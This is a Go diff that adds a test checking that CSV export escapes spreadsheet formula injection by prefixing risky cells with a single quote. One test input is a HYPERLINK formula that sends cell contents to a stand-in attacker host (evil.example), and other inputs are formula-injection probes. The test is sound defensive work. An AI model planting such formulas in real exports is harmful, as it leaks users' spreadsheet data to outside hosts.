@@ -2,10 +2,13 @@ package export
 
 import (
 	"bytes"
+	"encoding/csv"
 	"encoding/json"
 	"regexp"
 	"strings"
 	"testing"
+
+	"github.com/google/go-cmp/cmp"
 )
 
 func model() *Model {
@@ -86,5 +89,43 @@ func TestMatrixFormats(t *testing.T) {
 	}
 	if err := WriteMatrix(&text, "yaml", model(), MatrixOptions{}); err == nil {
 		t.Error("an unknown format is not an error")
+	}
+}
+
+// TestCSVFormulas: a cell that a spreadsheet would run as a formula is written as text,
+// with a leading single quote; IDs such as "(1)-2" and other cells are left as they are.
+func TestCSVFormulas(t *testing.T) {
+	m := model()
+	m.Items["1-2"].Title = Text{"en": `=HYPERLINK("https://evil.example/?"&A1,"click")`}
+	m.Items["1-3"].Title = Text{"en": "-1+1"}
+	m.Items["1"].Title = Text{"en": "@SUM(1+1)\t+\r＝1"}
+	m.Items["1-3"].ID = "-(1)-3"
+	var b bytes.Buffer
+	if err := WriteMatrix(&b, "csv", m, MatrixOptions{Lang: "en"}); err != nil {
+		t.Fatal(err)
+	}
+	rows, err := csv.NewReader(&b).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	var got []string
+	for _, r := range rows[1:] {
+		got = append(got, r[0], r[2])
+	}
+	want := []string{
+		"(1)", "'@SUM(1+1)\t+\r＝1",
+		"(1)-2", `'=HYPERLINK("https://evil.example/?"&A1,"click")`,
+		"'-(1)-3", "'-1+1",
+	}
+	if diff := cmp.Diff(want, got); diff != "" {
+		t.Errorf("id and title cells (-want +got):\n%s", diff)
+	}
+	for _, tc := range []struct{ in, want string }{
+		{"＋1", "'＋1"}, {"－1", "'－1"}, {"＠x", "'＠x"}, {"\tx", "'\tx"}, {"\rx", "'\rx"},
+		{"(1)-2", "(1)-2"}, {"1-1", "1-1"}, {"", ""}, {"'=x", "'=x"}, {" =x", " =x"},
+	} {
+		if got := csvCell(tc.in); got != tc.want {
+			t.Errorf("csvCell(%q) = %q, want %q", tc.in, got, tc.want)
+		}
 	}
 }
